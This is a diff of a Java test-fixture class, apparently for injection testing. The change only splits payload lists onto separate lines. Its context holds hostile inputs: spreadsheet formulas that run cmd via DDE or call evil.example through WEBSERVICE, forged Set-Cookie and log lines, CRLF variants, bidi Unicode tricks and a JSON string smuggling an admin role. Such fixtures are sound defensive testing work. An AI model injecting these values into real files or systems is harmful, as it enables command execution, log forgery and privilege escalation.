@@ -130,8 +130,23 @@ final class Contexts {
             "DDE(\"cmd\";\"/C calc\";\"x\")",
             "WEBSERVICE(\"https://evil.example/\")");
 
-    static final List<String> LEADING =
-            List.of("=§", "+§", "-§", "@§", "\t=§", "\r=§", "\n=§", " =§", "\u00A0=§", "\"=§\"", ";=§", "\uFF1D§", "|§", "%§", "\uFEFF=§", "a\",\"=§");
+    static final List<String> LEADING = List.of(
+            "=§",
+            "+§",
+            "-§",
+            "@§",
+            "\t=§",
+            "\r=§",
+            "\n=§",
+            " =§",
+            "\u00A0=§",
+            "\"=§\"",
+            ";=§",
+            "\uFF1D§",
+            "|§",
+            "%§",
+            "\uFEFF=§",
+            "a\",\"=§");
 
     static final List<String> LINES = List.of(
             "Set-Cookie: hostile=1",
@@ -144,13 +159,34 @@ final class Contexts {
             "2024-07-03T09:00:00.000Z  INFO 1 --- [main] FORGED : admin signed in");
 
     static final List<String> LINE_ENDS = List.of(
-            "x\r\n§", "x\n§", "x\r§", "x\u2028§", "x\u0085§", "x\u000B§", "x\\r\\n§", "x%0d%0a§", "x\r\n\r\n§", "x\r\n §");
+            "x\r\n§",
+            "x\n§",
+            "x\r§",
+            "x\u2028§",
+            "x\u0085§",
+            "x\u000B§",
+            "x\\r\\n§",
+            "x%0d%0a§",
+            "x\r\n\r\n§",
+            "x\r\n §");
 
-    static final List<String> DIRECTED = List.of("fdp.hostile.exe", "=1+1+1+1+1", "<b data-hostile>", "words-of-hostile");
+    static final List<String> DIRECTED =
+            List.of("fdp.hostile.exe", "=1+1+1+1+1", "<b data-hostile>", "words-of-hostile");
 
     static final List<String> DIRECTIONS = List.of(
-            "\u202E§", "\u202D§", "\u2067§", "\u2066§\u2069", "\u200F§", "\u061C§", "\u200B§", "\u2060§", "\uFEFF§",
-            "a\u0301\u0489\u0489§", "\u05D0\u05D1§", "\uD83D\uDE08§", "x\u0008\u001B[31m§");
+            "\u202E§",
+            "\u202D§",
+            "\u2067§",
+            "\u2066§\u2069",
+            "\u200F§",
+            "\u061C§",
+            "\u200B§",
+            "\u2060§",
+            "\uFEFF§",
+            "a\u0301\u0489\u0489§",
+            "\u05D0\u05D1§",
+            "\uD83D\uDE08§",
+            "x\u0008\u001B[31m§");
 
     static final List<String> STRUCTURES = List.of(
             "\"}],\"roles\":[\"admin\"],\"x\":[{\"",
